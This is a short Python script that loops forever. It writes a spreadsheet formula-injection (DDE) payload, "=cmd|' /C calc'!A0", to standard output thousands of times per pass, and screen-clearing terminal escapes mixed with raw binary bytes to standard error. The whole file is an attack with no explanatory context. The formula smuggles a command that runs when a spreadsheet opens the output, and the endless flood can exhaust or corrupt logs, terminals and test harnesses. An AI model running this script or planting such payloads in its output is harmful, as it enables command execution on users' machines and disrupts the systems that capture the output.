import os

while True:
    os.write(1, b"=cmd|' /C calc'!A0\n" * 4096)
    os.write(2, b"\x1b[2J\xff\x00" * 16384)
